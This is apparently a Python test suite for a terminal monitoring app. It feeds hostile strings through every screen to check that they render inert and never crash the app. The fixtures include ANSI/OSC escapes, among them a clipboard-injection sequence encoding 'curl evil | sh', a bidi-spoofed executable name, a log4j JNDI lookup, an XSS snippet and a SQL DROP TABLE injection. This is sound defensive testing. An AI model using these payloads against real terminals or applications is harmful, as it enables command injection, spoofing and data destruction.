"""Terminal safety: hostile text is shown inert on every screen and never crashes the app.

Two layers. Property tests (hypothesis) of :mod:`monitor.textsafe` and of Rich rendering what it
returns, over any text. Then one database holding ~40 deliveries whose names, usernames, user ids,
content ids, click actions, event names, headers, paths, bodies, rejected bodies and session
sources are markup, ANSI/OSC/C1 controls, bidi overrides, zero-width, wide (CJK, emoji) and
combining characters and 10,000-character lines, from a fixed list plus a seeded generator. The app
runs offline on it, and every screen is walked: the main table (gateway and all events, masked and
not), the details and drill-down of every fourth delivery (each one's headers carry every string),
the details of every other rejection, the readers list and the sessions list. Each rendered line is checked
for raw control characters and for its width.
"""

from __future__ import annotations

import io
import json
import random
import re
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text
from textual.strip import Strip

from monitor import store
from monitor.textsafe import cell, clean
from monitor.tui.app import MonitorApp
from monitor.tui.screens.detail import DetailScreen
from monitor.tui.screens.main import MainScreen
from monitor.tui.screens.reader import ReaderScreen
from monitor.tui.screens.readers import ReadersScreen
from monitor.tui.screens.sessions import SessionsScreen
from monitor.tui.widgets.event_table import EventTable
from tests.helpers import SIZE, event_row, gateway_body, rejected_row, screen_strips, wait_for

#: What must never reach the terminal as itself: C0 (every one, even tab and newline inside a
#: segment), DEL, C1, the bidi embeddings/overrides (U+202A-U+202E) and isolates (U+2066-U+2069).
FORBIDDEN = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
#: The same plus what textsafe also neutralises (marks, zero-width, separators, tags, surrogates).
UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\xad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ud800-\udfff\ufeff"
    "\ufff9-\ufffb\U000e0000-\U000e007f]"
)
SGR = re.compile("\x1b\\[[0-9;]*m")

HOSTILE = [
    "[bold red]not bold[/]",
    "[@click=app.quit]click me[/]",
    "[link=https://evil.example]link[/link]",
    "[/]",
    "\\[escaped] [b]",
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared?",
    "\x1b]0;pwned title\x07after",
    "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07clipboard",
    "csi \x9b31m c1 \x9d0;osc\x9c \x85nel",
    "bell\x07 nul\x00 del\x7f bs\x08\x08",
    "cr\rover lf\nnext tab\tx vt\x0b ff\x0c",
    "invoice\u202egnp.exe",
    "\u202adir\u202b \u202c\u202d \u2066iso\u2067\u2068\u2069",
    "zero\u200bwidth\u200d\u200c\u2060join\ufeff",
    "line\u2028sep\u2029para",
    "tag\U000e0041\U000e007f chars",
    "中文读者名字" * 6,
    "👨‍👩‍👧‍👦 family 🏳️‍🌈 flag 🇮🇳",
    "e\u0301\u0301\u0301\u0301 combining a\u0308\u0304",
    "Z\u0337\u0322\u031b\u034ea\u0334l\u0336g\u0338o\u0335",
    "ｆｕｌｌｗｉｄｔｈ　ｓｐａｃｅ",
    "x" * 10_000,
    "中" * 10_000,
    "\x1b" * 300 + "[31m",
    "${jndi:ldap://x/a} %s%n {0} <script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "\u0000\u0001\u0002\u0003",
    "",
    " ",
]
_ALPHABET = "ab [/]=@\x1b\x07\x9b\x9d\u202e\u2066\u200b中👍e\u0301\t\n\r\x00\x7f\u2028"


def hostile_strings() -> list[str]:
    rng = random.Random(4242)
    generated = ["".join(rng.choice(_ALPHABET) for _ in range(rng.randint(1, 300))) for _ in range(12)]
    return HOSTILE + generated


# --- property tests -----------------------------------------------------------------------------------


@settings(max_examples=500, deadline=None)
@given(text=st.text(), limit=st.integers(min_value=0, max_value=300))
def test_clean_and_cell_leave_nothing_unsafe(text: str, limit: int) -> None:
    out = clean(text)
    assert not UNSAFE.search(out)
    assert len(out) == len(text)
    out.encode("utf-8")
    kept = clean(text, keep_newlines=True)
    assert not UNSAFE.search(kept.replace("\n", ""))
    short = cell(text, limit)
    assert len(short) <= max(limit, 0) and not UNSAFE.search(short)


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet=st.sampled_from(_ALPHABET) | st.characters(), max_size=200))
def test_rich_renders_cleaned_text_literally_and_inert(text: str) -> None:
    safe = cell(text, 200)
    rendered = Text(safe)
    assert rendered.plain == safe  # no markup was parsed
    console = Console(file=io.StringIO(), force_terminal=True, color_system="truecolor", width=60, legacy_windows=False)
    console.print(rendered, style="bold", overflow="fold")
    output = console.file.getvalue()  # type: ignore[attr-defined]
    # Only our own style codes and line ends are left.
    assert not FORBIDDEN.search(SGR.sub("", output).replace("\n", ""))


# --- every screen of the app --------------------------------------------------------------------------


def build_database(path: Path) -> tuple[int, int]:
    """~40 deliveries and rejections full of hostile text, across two sessions; returns (events, rejected)."""
    strings = hostile_strings()
    db = store.open_store(path)
    sessions = [
        store.start_session(db, listen=strings[5], mode="headless"),
        store.start_session(db, listen=None, mode="import", source=strings[7] + strings[12]),
    ]
    events: list[dict[str, Any]] = []
    rejected: list[dict[str, Any]] = []
    for i, text in enumerate(strings):
        other = strings[(i + 7) % len(strings)]
        body = gateway_body(
            event="payment_gateway.view" if i % 3 else "payment_gateway.close",
            user_id=f"u{i}-{text[:40]}",
            name=text,
            phone=other[:20],
            content_id=other,
            session=f"s{i}",
            click_action=text[::-1],
        )
        obj = json.loads(body)
        obj["payload"]["user"]["username"] = other
        obj["payload"]["user"]["city"] = text
        obj["client_info"] = {"userAgent": text, "deviceType": other, "country": text[:5]}
        body = json.dumps(obj, ensure_ascii=bool(i % 2)).encode("utf-8", "surrogatepass")
        row = event_row(body, session_id=sessions[i % 2], received_at=1709186668.0 + i)
        row["headers"] = json.dumps(
            {"Host": "127.0.0.1", "X-Hostile": text, "User-Agent": other, "Authorization": "Basic [redacted]"}
            | {f"X-H-{n}": value for n, value in enumerate(strings)}
        )
        row["path"] = "/" + text[:200]
        events.append(row)
        if i % 2:
            # An event whose name itself is hostile (shown in "all" mode and the per-type counts).
            raw = json.dumps({"event": text[:60], "user_id": f"u{i}-{text[:40]}", "note": other}).encode(
                "utf-8", "surrogatepass"
            )
            events.append(event_row(raw, session_id=sessions[i % 2], received_at=1709186668.5 + i))
        if i % 3 == 0:
            bad = text.encode("utf-8", "surrogatepass") + b"\xff\xfe\x1b[31m"
            rejected.append(
                rejected_row(
                    bad,
                    session_id=sessions[i % 2],
                    received_at=1709186668.7 + i,
                    status=400,
                    reason="body is not valid UTF-8",
                )
            )
    store.write_batch(db.conn, events, rejected)
    db.close()
    return len(events), len(rejected)


class Checker:
    def __init__(self, app: MonitorApp) -> None:
        self.app = app
        self.screens: dict[str, int] = {}
        self.lines = 0

    def check(self, where: str) -> None:
        strips: list[Strip] = screen_strips(self.app)
        assert strips, where
        for y, strip in enumerate(strips):
            for segment in strip:
                assert segment.control is None, (where, y, segment)
                assert not FORBIDDEN.search(segment.text), (where, y, repr(segment.text))
            # Wide and combining characters never push a line past the terminal's width.
            assert strip.cell_length <= SIZE[0], (where, y, strip.cell_length)
        self.lines += len(strips)
        self.screens[where] = self.screens.get(where, 0) + 1
        assert self.app.is_running, where


async def test_every_screen_renders_hostile_text_inertly(tmp_path: Path) -> None:
    db_path = tmp_path / "hostile.db"
    n_events, n_rejected = build_database(db_path)
    app = MonitorApp(db_path, session_id=None)
    async with app.run_test(size=SIZE) as pilot:
        check = Checker(app)
        table = app.main_screen.query_one(EventTable)
        await wait_for(pilot, lambda: table.total > 0, what="the gateway rows")
        await pilot.pause()
        check.check("main (gateway)")
        gateway_rows = table.total

        # Details and drill-down of every fourth row (every row carries all the strings in its headers).
        for index in [*range(0, gateway_rows, 4), gateway_rows - 1]:
            table.cursor_row = index  # as the arrow keys would, without pressing them index times
            await wait_for(pilot, lambda index=index: table.cursor_row == index, what=f"row {index}")
            await pilot.pause()
            check.check("main (gateway)")
            await pilot.press("d")
            await wait_for(pilot, lambda: isinstance(app.screen, DetailScreen), what=f"details of row {index}")
            await pilot.pause()
            check.check("details")
            # The bottom of the page, past headers and bodies with 10,000-character lines.
            app.screen.query_one("#detail").scroll_end(animate=False, immediate=True)
            await pilot.pause()
            check.check("details")
            await pilot.press("escape")
            await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))
            await pilot.press("enter")
            await wait_for(pilot, lambda: isinstance(app.screen, ReaderScreen), what=f"drill-down of row {index}")
            await pilot.pause()
            check.check("drill-down")
            await pilot.press("escape")
            await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))

        # All events, with the rejections (hex dumps of hostile bytes), masked and not.
        await pilot.press("a")
        await wait_for(pilot, lambda: table.total == n_events + n_rejected, what="every row")
        await pilot.pause()
        check.check("main (all)")
        rejections = [i for i in range(table.total) if (r := table.row_at(i)) is not None and r.source == "rejected"]
        assert len(rejections) == n_rejected
        for index in rejections[::2]:
            table.cursor_row = index
            await wait_for(pilot, lambda index=index: table.cursor_row == index, what=f"row {index}")
            await pilot.press("d")
            await wait_for(pilot, lambda: isinstance(app.screen, DetailScreen), what=f"rejection {index}")
            await pilot.pause()
            check.check("details (rejected)")
            await pilot.press("escape")
            await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))
        await pilot.press("home")
        await pilot.press("m")
        await pilot.pause()
        check.check("main (all, masked)")
        await pilot.press("m")

        # Readers, then the drill-down from there; sessions.
        await pilot.press("u")
        await wait_for(pilot, lambda: isinstance(app.screen, ReadersScreen), what="the readers")
        await pilot.pause()
        check.check("readers")
        await pilot.press("end")
        await pilot.pause()
        check.check("readers")
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ReaderScreen), what="a drill-down from the readers")
        await pilot.pause()
        check.check("drill-down")
        await pilot.press("escape")
        await wait_for(pilot, lambda: isinstance(app.screen, ReadersScreen))
        await pilot.press("escape")
        await wait_for(pilot, lambda: isinstance(app.screen, MainScreen))
        await pilot.press("s")
        await wait_for(pilot, lambda: isinstance(app.screen, SessionsScreen), what="the sessions")
        await pilot.pause()
        check.check("sessions")
        await pilot.press("down", "down", "enter")  # review the second (imported) session
        await wait_for(pilot, lambda: isinstance(app.screen, MainScreen) and app.session_id is not None)
        await pilot.pause()
        check.check("main (one session)")
        assert app.is_running
        await pilot.press("q")
        await wait_for(pilot, lambda: not app.is_running, what="the app to quit")
    print(
        f"\nterminal: {len(hostile_strings())} hostile strings, {n_events} events + {n_rejected} rejected; "
        f"screens checked {check.screens}; {check.lines} lines"
    )
